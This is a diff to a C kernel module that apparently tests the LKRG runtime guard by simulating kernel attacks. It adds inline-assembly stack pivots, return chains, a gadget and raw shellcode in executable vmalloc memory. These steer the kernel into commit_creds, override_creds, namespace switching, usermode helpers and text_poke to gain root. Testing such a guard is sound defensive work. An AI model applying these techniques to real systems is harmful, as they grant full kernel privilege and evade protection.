@@ -10,7 +10,7 @@
  * the functions of the kernel; on namespaces, root, seccomp, tracer, memory and
  * flags of a task; on the lists it is in, and its record in that of the guard;
  * on a kernel thread of this module and on process 1; on the kernel image; on the
- * registers of a CPU; on the passes of the guard.
+ * registers of a CPU; on the passes of the guard; on the flow of the kernel.
  *
  * What differs from a real attack is only what lets the machine survive with
  * the guard switched off: whatever a changed credential will give back when
@@ -61,6 +61,7 @@
 #include <linux/mutex.h>
 #include <linux/ns_common.h>
 #include <linux/nsproxy.h>
+#include <linux/objtool.h>
 #include <linux/path.h>
 #include <linux/pid.h>
 #include <linux/pid_namespace.h>
@@ -98,6 +99,7 @@
 #include <asm/fpu/types.h>
 #include <asm/fpu/xcr.h>
 #include <asm/ibt.h>
+#include <asm/linkage.h>
 #include <asm/msr.h>
 #include <asm/nops.h>
 #include <asm/nospec-branch.h>
@@ -2128,6 +2130,240 @@ static int run_changed_helper(struct task_struct *task, size_t field)
 	return err;
 }
 
+/* === The flow of the kernel ============================================== */
+
+/*
+ * An attacker who can only make the kernel return to where he wants makes it
+ * return into a function of the kernel, with what that needs in registers.  When
+ * the function has returned, through his chain, all is as it was.
+ */
+static notrace __used __attribute__((__naked__)) u64
+lkrg_attack_return_into(const u64 *arguments, u64 function, void *stack,
+			const u64 *chain, size_t length)
+{
+	asm volatile("push %rbx\n\t"
+		     "push %rbp\n\t"
+		     "mov %rsp, %rbx\n\t"
+		     "test %rdx, %rdx\n\t"
+		     "cmovne %rdx, %rsp\n\t"
+		     "lea 3f(%rip), %rax\n\t"
+		     "push %rax\n"
+		     "1:\n\t"
+		     "test %r8, %r8\n\t"
+		     "jz 2f\n\t"
+		     "dec %r8\n\t"
+		     "push (%rcx,%r8,8)\n\t"
+		     "jmp 1b\n"
+		     "2:\n\t"
+		     "mov %rsi, %rax\n\t"
+		     "mov 16(%rdi), %rdx\n\t"
+		     "mov 8(%rdi), %rsi\n\t"
+		     "mov (%rdi), %rdi\n\t"
+		     ANNOTATE_RETPOLINE_SAFE
+		     "jmp *%rax\n\t"
+		     "int3\n"
+		     "3:\n\t"
+		     ANNOTATE_NOENDBR
+		     "mov %rbx, %rsp\n\t"
+		     "pop %rbp\n\t"
+		     "pop %rbx\n\t"
+		     ASM_RET);
+}
+
+STACK_FRAME_NON_STANDARD(lkrg_attack_return_into);
+
+/* What attackers look for */
+static notrace __used __attribute__((__naked__)) void lkrg_attack_gadget(void)
+{
+	asm volatile(ASM_RET);
+}
+
+/* This one is behind a call; what it returns to then, need not be */
+static notrace __used __attribute__((__naked__)) void lkrg_attack_caller(void)
+{
+	asm volatile("sub $8, %rsp\n\t"
+		     "call lkrg_attack_gadget\n\t"
+		     "add $8, %rsp\n\t"
+		     ASM_RET);
+}
+
+static u64 behind_call(void)
+{
+	const u8 *insn = (void *)lkrg_attack_caller;
+
+	while (*insn != CALL_INSN_OPCODE)
+		insn++;
+	return (u64)insn + CALL_INSN_SIZE;
+}
+
+static ulong set_memory_x_at;
+module_param_named(set_memory_x, set_memory_x_at, ulong, 0400);
+MODULE_PARM_DESC(set_memory_x, "Address of that function");
+
+static int make_executable(void *page)
+{
+	int (*const function)(ulong addr, int pages) = (void *)set_memory_x_at;
+
+	return function ? function((ulong)page, 1) : -ENOENT;
+}
+
+/* A function that calls another one, in memory that is nobody's */
+static u64 call_from_nowhere(const u64 *arguments, u64 function)
+{
+	static const u8 code[] = {
+		0xf3, 0x0f, 0x1e, 0xfa,		/* endbr64 */
+		0x48, 0x83, 0xec, 0x08,		/* sub $8, %rsp */
+		0x48, 0x89, 0xf0,		/* mov %rsi, %rax */
+		0x48, 0x8b, 0x57, 0x10,		/* mov 16(%rdi), %rdx */
+		0x48, 0x8b, 0x77, 0x08,		/* mov 8(%rdi), %rsi */
+		0x48, 0x8b, 0x3f,		/* mov (%rdi), %rdi */
+		0xff, 0xd0,			/* call *%rax */
+		0x48, 0x83, 0xc4, 0x08,		/* add $8, %rsp */
+		0xc3,				/* ret */
+	};
+	u64 (*call)(const u64 *arguments, u64 function);
+	void *const page = vmalloc(PAGE_SIZE);
+	u64 result = 0;
+
+	if (!page)
+		return 0;
+	memcpy(page, code, sizeof(code));
+	if (!make_executable(page)) {
+		call = page;
+		result = call(arguments, function);
+	}
+	vfree(page);
+	return result;
+}
+
+enum way {
+	BY_PIVOT,
+	BY_GADGET,
+	BY_CHAIN,
+	BY_STRANGER,
+};
+
+#define PIVOT_SIZE (8 * PAGE_SIZE)
+
+static u64 come_to(enum way way, u64 function, u64 first, u64 second, u64 third)
+{
+	const u64 arguments[] = { first, second, third };
+	const u64 chain[] = { behind_call(), 0, (u64)lkrg_attack_gadget };
+	void *stack;
+	u64 result = 0;
+
+	switch (way) {
+	case BY_PIVOT:
+		stack = kmalloc(PIVOT_SIZE, GFP_KERNEL);
+		if (stack)
+			result = lkrg_attack_return_into(arguments, function,
+							 stack + PIVOT_SIZE,
+							 NULL, 0);
+		kfree(stack);
+		break;
+	case BY_GADGET:
+		result = lkrg_attack_return_into(arguments, function, NULL,
+						 chain + 2, 1);
+		break;
+	case BY_CHAIN:
+		result = lkrg_attack_return_into(arguments, function, NULL,
+						 chain, ARRAY_SIZE(chain));
+		break;
+	case BY_STRANGER:
+		result = call_from_nowhere(arguments, function);
+		break;
+	}
+	return result;
+}
+
+static int come_to_commit(struct task_struct *task, size_t way)
+{
+	struct cred *const cred = prepare_kernel_cred(&init_task);
+	int err;
+
+	if (!cred)
+		return -ENOMEM;
+	err = come_to(way, (u64)commit_creds, (u64)cred, 0, 0);
+	if (err)
+		put_cred(cred);
+	return err;
+}
+
+static int come_to_override(struct task_struct *task, size_t way)
+{
+	struct cred *const cred = prepare_kernel_cred(&init_task);
+	const struct cred *old;
+
+	if (!cred)
+		return -ENOMEM;
+	old = (void *)come_to(way, (u64)override_creds, (u64)cred, 0, 0);
+	put_cred(old);
+	put_cred(cred);
+	return old ? 0 : -ENOMEM;
+}
+
+static int come_to_prepare(struct task_struct *task, size_t way)
+{
+	return commit((void *)come_to(way, (u64)prepare_kernel_cred,
+				      (u64)&init_task, 0, 0));
+}
+
+static int come_to_switch(struct task_struct *task, size_t way)
+{
+	struct nsproxy *const init = (void *)init_nsproxy_at;
+
+	if (!switch_task_namespaces_at || !init)
+		return -ENOENT;
+	get_nsproxy(init);
+	come_to(way, switch_task_namespaces_at, (u64)task, (u64)init, 0);
+	return 0;
+}
+
+/* The others give no privilege at once: who could call them takes one then */
+static int come_to_helper(struct task_struct *task, size_t way)
+{
+	char *argv[] = { "/bin/true", NULL };
+	struct subprocess_info *const info =
+		call_usermodehelper_setup(argv[0], argv, NULL, GFP_KERNEL, NULL,
+					  NULL, NULL);
+
+	if (!info)
+		return -ENOMEM;
+	if ((int)come_to(way, (u64)call_usermodehelper_exec, (u64)info,
+			 UMH_WAIT_EXEC, 0) == -EPERM)
+		return -EPERM;
+	return commit_kernel(task, 0);
+}
+
+static int come_to_memory(struct task_struct *task, size_t way)
+{
+	void *const page = vmalloc(PAGE_SIZE);
+	int err = -ENOMEM;
+
+	if (!set_memory_x_at)
+		err = -ENOENT;
+	else if (page)
+		err = come_to(way, set_memory_x_at, (u64)page, 1, 0);
+	vfree(page);
+	return err ?: commit_kernel(task, 0);
+}
+
+/* What is there is what it was */
+static int come_to_poke(struct task_struct *task, size_t way)
+{
+	struct mutex *const mutex = (void *)text_mutex_at;
+	void *const at = victim_text();
+	const u8 was = *(u8 *)at;
+	u64 poked;
+
+	if (!text_poke_at || !mutex)
+		return -ENOENT;
+	mutex_lock(mutex);
+	poked = come_to(way, text_poke_at, (u64)at, (u64)&was, 1);
+	mutex_unlock(mutex);
+	return poked ? commit_kernel(task, 0) : -EPERM;
+}
+
 /* === The table ========================================================== */
 
 #define CPU(_name, _field) {				\
@@ -2155,6 +2391,13 @@ static int run_changed_helper(struct task_struct *task, size_t field)
 	.name = _name,					\
 	.what = _what,					\
 	.run = _run,					\
+}
+
+#define FLOW(_name, _way, _to, _function) {		\
+	.name = "flow-" _name "-" #_to,			\
+	.what = "the kernel is led to " _function "()",	\
+	.run = come_to_##_to,				\
+	.field = _way,					\
 }
 
 static const struct attack attacks[] = {
@@ -2201,6 +2444,22 @@ static const struct attack attacks[] = {
 	       "override_creds(&init_cred), not reverted"),
 	ATTACK("override-kernel", override_kernel,
 	       "override_creds(prepare_kernel_cred(&init_task)), not reverted"),
+	FLOW("pivot", BY_PIVOT, commit, "commit_creds"),
+	FLOW("pivot", BY_PIVOT, override, "override_creds"),
+	FLOW("pivot", BY_PIVOT, switch, "switch_task_namespaces"),
+	FLOW("gadget", BY_GADGET, commit, "commit_creds"),
+	FLOW("gadget", BY_GADGET, override, "override_creds"),
+	FLOW("gadget", BY_GADGET, switch, "switch_task_namespaces"),
+	FLOW("gadget", BY_GADGET, prepare, "prepare_kernel_cred"),
+	FLOW("gadget", BY_GADGET, helper, "call_usermodehelper_exec"),
+	FLOW("gadget", BY_GADGET, memory, "set_memory_x"),
+	FLOW("gadget", BY_GADGET, poke, "text_poke"),
+	FLOW("chain", BY_CHAIN, commit, "commit_creds"),
+	FLOW("chain", BY_CHAIN, switch, "switch_task_namespaces"),
+	FLOW("chain", BY_CHAIN, prepare, "prepare_kernel_cred"),
+	FLOW("stranger", BY_STRANGER, commit, "commit_creds"),
+	FLOW("stranger", BY_STRANGER, override, "override_creds"),
+	FLOW("stranger", BY_STRANGER, switch, "switch_task_namespaces"),
 	ATTACK("own-nsproxy", switch_namespaces,
 	       "switch_task_namespaces() of itself to init_nsproxy"),
 	ATTACK("child-nsproxy", switch_child,
